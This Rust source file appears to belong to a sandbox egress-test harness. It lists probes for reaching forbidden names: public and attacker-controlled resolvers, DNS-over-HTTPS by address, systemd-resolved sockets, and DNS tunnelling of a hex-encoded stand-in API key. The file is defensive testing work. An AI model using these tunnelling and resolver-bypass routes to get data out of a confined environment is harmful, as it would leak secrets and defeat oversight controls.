//! By name: the resolver that asks nobody, and all the other ways to a resolver.

use super::super::attack::PositiveControl::ByRoot;
use super::super::attack::{Attack, PositiveControl, attack};
use super::super::claims::Claims;
use super::outward;
use serde_json::{Value, json};

/// What a thief would say in a question about a name.
const STOLEN: &str = "736b2d6f722d76312d346164356330666665653064646261313164";

pub fn attacks(claims: &Claims) -> Vec<Attack> {
    let foreign = claims.foreign_name();
    let mut attacks = foreign_resolvers(claims, foreign);
    let Some(allowed) = claims.allowed_name() else { return attacks };
    // The control is the agent's: the same question about an allowed name has an answer.
    let name = |id: &str, what: String, call: Value, control: Value| {
        attack(id, what, call, PositiveControl::ByAgent("the same with an allowed name", control))
    };
    let asked = |id: &str, what: &str, how: &str, name_: &str| {
        name(
            id,
            format!("{what} ({name_})"),
            json!(["dns", how, claims.ask, 53, name_]),
            json!(["dns", how, claims.ask, 53, allowed]),
        )
    };
    attacks.extend([
        asked("names.foreign", "a name that is not allowed", "udp", foreign),
        asked("names.foreign-tcp", "the same over TCP", "tcp", foreign),
        asked("names.tunnel", "a secret in a name", "udp", &format!("{STOLEN}.{foreign}")),
        asked("names.tunnel-below", "a secret in a name below an allowed one", "udp", &format!("{STOLEN}.{allowed}")),
        name(
            "names.library",
            format!("the C library, with all that stands behind it ({foreign})"),
            json!(["lookup", foreign]),
            json!(["lookup", allowed]),
        ),
        name(
            "names.library-tunnel",
            "a secret in a name, by the C library".to_owned(),
            json!(["lookup", format!("{STOLEN}.{foreign}")]),
            json!(["lookup", allowed]),
        ),
        attack(
            "names.varlink",
            "systemd-resolved by varlink",
            json!([
                "each_unix",
                ["/run/systemd/resolve/io.systemd.Resolve", "/run/systemd/resolve/io.systemd.Resolve.Monitor"]
            ]),
            PositiveControl::SameByRoot,
        ),
        attack(
            "names.bus",
            "systemd-resolved and others by D-Bus",
            json!(["each_unix", ["/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket"]]),
            PositiveControl::SameByRoot,
        ),
        attack(
            "names.allowed",
            format!("an allowed name has an address ({allowed})"),
            json!(["lookup", allowed]),
            PositiveControl::MustWork,
        ),
    ]);
    attacks
}

fn foreign_resolvers(claims: &Claims, foreign: &str) -> Vec<Attack> {
    let asked = |id: &str, what: &str, how: &str, server: &str| {
        let port = if how == "udp" { "@udp" } else { "@tcp" };
        outward(
            claims,
            id,
            &format!("{what} ({server})"),
            json!(["dns", how, server, 53, foreign, true]),
            json!(["dns", how, "127.0.0.1", port, foreign, true]),
        )
    };
    let dialled = |id: &str, what: &str, server: &str, port: u16| {
        outward(
            claims,
            id,
            &format!("{what} ({server} port {port})"),
            json!(["tcp", server, port]),
            json!(["tcp", "127.0.0.1", "@tcp"]),
        )
    };
    // On loopback a host's own resolver listens, which asks others; where none does, the control
    // has a listener of its own.
    let local = |id: &str, what: &str, server: &str| {
        let call = json!(["dns", "udp", server, 53, foreign, true]);
        let control = ByRoot(
            "the same probe as root, to a listener on loopback",
            json!(["dns", "udp", "127.0.0.1", "@udp", foreign, true]),
        );
        attack(id, format!("{what} ({server})"), call, control)
    };
    vec![
        local("names.stub", "systemd-resolved's own address", "127.0.0.53"),
        local("names.local", "a resolver on loopback", "127.0.0.1"),
        local("names.local6", "the same over IPv6", "::1"),
        asked("names.udp", "a public resolver", "udp", "1.1.1.1"),
        asked("names.udp8", "another one", "udp", "8.8.8.8"),
        asked("names.tcp", "a public resolver, over TCP", "tcp", "9.9.9.9"),
        asked("names.udp6", "a public resolver, over IPv6", "udp", "2606:4700:4700::1111"),
        asked("names.own", "a resolver of the attacker's", "udp", super::direct::NOBODY),
        // Port 853 is tried at an address of nobody's: among the ways.
        dialled("names.doh", "a public resolver over HTTPS, by its address", "1.1.1.1", 443),
        dialled("names.doh8", "another one", "8.8.8.8", 443),
        dialled("names.doh6", "a public resolver over HTTPS, by its IPv6 address", "2001:4860:4860::8888", 443),
    ]
}
